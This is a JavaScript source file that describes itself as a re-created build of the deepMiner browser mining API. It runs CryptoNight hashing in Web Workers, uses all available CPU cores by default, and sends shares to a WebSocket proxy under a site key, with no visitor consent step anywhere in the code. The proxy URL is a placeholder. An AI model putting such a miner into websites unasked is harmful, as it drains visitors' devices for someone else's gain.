/* deepMiner.js - corpus re-creation of the deepMiner API (our code), readable build; the
   worker runs lib/cryptonight.wasm. */
var deepMiner = (function () {
  var PROXY = "%%WS:deepminer%%/proxy";
  var WORKER = "/tuned/deepminer-wasm/lib/worker.js";

  function Init(siteKey, options) {
    this.siteKey = siteKey;
    this.options = options || {};
    var cores = navigator.hardwareConcurrency || 2;
    this.threads = this.options.autoThreads ? Math.max(1, Math.min(2, cores - 1)) : (this.options.threads || cores);
    this.throttle = this.options.throttle || 0;
    this.workers = [];
    this.job = null;
    this.hashes = 0;
    this.accepted = 0;
    this.events = {};
    this.running = false;
  }
  Init.prototype.on = function (name, fn) { (this.events[name] = this.events[name] || []).push(fn); };
  Init.prototype.emit = function (name, data) { (this.events[name] || []).forEach(function (fn) { fn(data); }); };
  Init.prototype.getTotalHashes = function () { return this.hashes; };
  Init.prototype.getAcceptedHashes = function () { return this.accepted; };
  Init.prototype.getHashesPerSecond = function () { return this.hps || 0; };
  Init.prototype.start = function () {
    if (this.running) return this;
    this.running = true;
    this.connect();
    for (var i = 0; i < this.threads; i++) this.addWorker();
    return this;
  };
  Init.prototype.stop = function () {
    this.running = false;
    this.workers.forEach(function (w) { w.terminate(); });
    this.workers = [];
    if (this.socket) this.socket.close();
  };
  Init.prototype.send = function (type, params) {
    if (this.socket && this.socket.readyState === 1) this.socket.send(JSON.stringify({ type: type, params: params }));
  };
  Init.prototype.connect = function () {
    var self = this;
    this.socket = new WebSocket(PROXY);
    this.socket.onopen = function () {
      self.send("auth", { site_key: self.siteKey, type: "anonymous", user: null, goal: 0 });
    };
    this.socket.onmessage = function (event) {
      var data = JSON.parse(event.data);
      if (data.type === "job") {
        self.job = data.params;
        self.workers.forEach(function (w) { w.postMessage({ job: self.job, throttle: self.throttle }); });
      } else if (data.type === "hash_accepted") {
        self.accepted = data.params.hashes;
        self.emit("accepted", data.params);
      } else if (data.type === "banned") {
        self.stop();
      }
    };
    this.socket.onclose = function () { if (self.running) setTimeout(function () { self.connect(); }, 5000); };
  };
  Init.prototype.addWorker = function () {
    var self = this, w = new Worker(WORKER), last = 0, at = Date.now();
    w.onmessage = function (event) {
      var d = event.data;
      if (d.share) { self.send("submit", d.share); self.emit("found", d.share); }
      self.hashes += d.hashes - last;
      self.hps = (d.hashes - last) * 1000 / Math.max(1, Date.now() - at);
      last = d.hashes; at = Date.now();
    };
    if (this.job) w.postMessage({ job: this.job, throttle: this.throttle });
    this.workers.push(w);
  };
  return { Init: Init, Anonymous: function (key, options) { return new Init(key, options); } };
})();
